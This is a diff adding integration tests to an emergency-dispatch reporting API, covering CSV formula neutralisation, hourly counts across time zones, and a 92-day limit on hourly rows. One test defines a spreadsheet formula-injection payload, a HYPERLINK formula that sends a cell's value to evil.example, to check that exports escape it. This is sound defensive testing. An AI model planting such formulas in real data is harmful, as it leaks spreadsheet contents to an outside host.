@@ -15,8 +15,11 @@ from sqlalchemy.ext.asyncio import async_sessionmaker
 
 from siaga112.agencies.models import Agency
 from siaga112.auth.roles import Role
+from siaga112.auth.service import system_actor
 from siaga112.dispatch.models import Dispatch
 from siaga112.incidents.models import Incident
+from siaga112.locations.service import add_location
+from siaga112.locations.sources import LocationSource
 from tests.conftest import auth
 from tests.integration.dispatch.conftest import make_key
 
@@ -236,3 +239,127 @@ async def test_bad_range_zone_or_grouping_is_422(
     r = await client.get("/v1/reports/incidents", headers=auth(keys[Role.ADMIN]), params=params)
     assert r.status_code == 422
     assert r.json()["code"] == "validation_error"
+
+
+# Another quiet range, for incidents whose kecamatan came from a caller's PIDF-LO.
+T1 = datetime(2032, 6, 7, 1, 0, tzinfo=UTC)
+RANGE1 = {"start": T1.isoformat(), "end": (T1 + timedelta(hours=1)).isoformat()}
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Jatiasih")'
+
+
+async def test_csv_exports_neutralise_formulas_from_caller_supplied_data(
+    client: httpx.AsyncClient,
+    keys: dict[Role, str],
+    sessionmaker: async_sessionmaker,  # type: ignore[type-arg]
+) -> None:
+    async with sessionmaker() as session:
+        row = incident(5, category="kebakaran", classification=None, kecamatan=None)
+        row.created_at = row.updated_at = T1 + timedelta(minutes=5)
+        session.add(row)
+        await session.flush()
+        # The caller's handset or network put a formula where the kecamatan (civic A3) goes.
+        await add_location(
+            session=session,
+            call_id=None,
+            incident_id=row.id,
+            source=LocationSource.PIDF_LO,
+            lat=-6.3,
+            lon=106.97,
+            radius_m=30,
+            confidence=None,
+            method="gps",
+            observed_at=T1,
+            raw={"parsed": {"civic": {"country": "ID", "A3": FORMULA}}},
+            address=None,
+            actor=system_actor("tests"),
+        )
+        agency = Agency(code="t_formula", name="@SUM(1+1) Damkar", kind="other", active=True)
+        session.add(agency)
+        await session.flush()
+        session.add(
+            Dispatch(
+                incident_id=row.id,
+                agency_id=agency.id,
+                status="sent",
+                created_by="tests",
+                created_at=row.created_at,
+                updated_at=row.created_at,
+            )
+        )
+        await session.commit()
+        stored = row.kecamatan
+    assert stored is not None
+    assert stored.startswith("=")
+    h = auth(keys[Role.INTEGRATOR])
+    r = await client.get(
+        "/v1/reports/incidents", headers=h, params=RANGE1 | {"format": "csv", "by": "kecamatan"}
+    )
+    assert r.status_code == 200, r.text
+    assert list(csv.reader(io.StringIO(r.text))) == [
+        ["kecamatan", "incidents"],
+        ["'" + stored, "1"],
+    ]
+    r = await client.get(
+        "/v1/reports/incidents", headers=h, params=RANGE1 | {"format": "csv", "by": "agency"}
+    )
+    (line,) = list(csv.DictReader(io.StringIO(r.text)))
+    assert (line["agency_code"], line["agency_name"]) == ("t_formula", "'@SUM(1+1) Damkar")
+    # The JSON report gives the data as it is: only spreadsheets evaluate formulas.
+    r = await client.get("/v1/reports/incidents", headers=h, params=RANGE1)
+    assert [k["key"] for k in r.json()["by_kecamatan"]] == [stored]
+
+
+async def test_hours_without_incidents_are_listed_with_zero(
+    client: httpx.AsyncClient, keys: dict[Role, str], known: None
+) -> None:
+    # 07:00 to 13:00 Jakarta: incidents only at 08, 09 and 10.
+    params = {
+        "start": (T0 - timedelta(minutes=30)).isoformat(),
+        "end": (T0 + timedelta(hours=4, minutes=30)).isoformat(),
+    }
+    h = auth(keys[Role.OPERATOR])
+    r = await client.get("/v1/reports/incidents", headers=h, params=params)
+    assert r.status_code == 200, r.text
+    expected = [
+        ("2032-05-04T07:00:00+07:00", 1),  # the incident 1 minute before T0
+        ("2032-05-04T08:00:00+07:00", 3),
+        ("2032-05-04T09:00:00+07:00", 2),
+        ("2032-05-04T10:00:00+07:00", 1),
+        ("2032-05-04T11:00:00+07:00", 1),  # T0 + 180 min
+        ("2032-05-04T12:00:00+07:00", 0),
+    ]
+    assert [(x["hour"], x["incidents"]) for x in r.json()["by_hour"]] == expected
+    r = await client.get(
+        "/v1/reports/incidents", headers=h, params=params | {"format": "csv", "by": "hour"}
+    )
+    assert [tuple(x) for x in csv.reader(io.StringIO(r.text))][1:] == [
+        (hour, str(n)) for hour, n in expected
+    ]
+    # A zone with a half-hour offset: the hours are its own wall-clock hours.
+    r = await client.get("/v1/reports/incidents", headers=h, params=RANGE | {"tz": "Asia/Kolkata"})
+    assert [(x["hour"], x["incidents"]) for x in r.json()["by_hour"]] == [
+        ("2032-05-04T06:00:00+05:30", 3),
+        ("2032-05-04T07:00:00+05:30", 2),
+        ("2032-05-04T08:00:00+05:30", 1),
+        ("2032-05-04T09:00:00+05:30", 0),
+    ]
+
+
+async def test_hourly_rows_are_given_for_at_most_92_days(
+    client: httpx.AsyncClient, keys: dict[Role, str]
+) -> None:
+    h = auth(keys[Role.OPERATOR])
+    start = datetime(2033, 1, 1, tzinfo=UTC)
+    long = {"start": start.isoformat(), "end": (start + timedelta(days=93)).isoformat()}
+    r = await client.get("/v1/reports/incidents", headers=h, params=long)
+    assert r.status_code == 200, r.text
+    assert r.json()["by_hour"] is None
+    r = await client.get(
+        "/v1/reports/incidents", headers=h, params=long | {"format": "csv", "by": "hour"}
+    )
+    assert r.status_code == 422
+    assert r.json()["code"] == "validation_error"
+    # Up to the cap, every hour is there.
+    ok = {"start": start.isoformat(), "end": (start + timedelta(days=92)).isoformat()}
+    r = await client.get("/v1/reports/incidents", headers=h, params=ok)
+    assert len(r.json()["by_hour"]) == 92 * 24
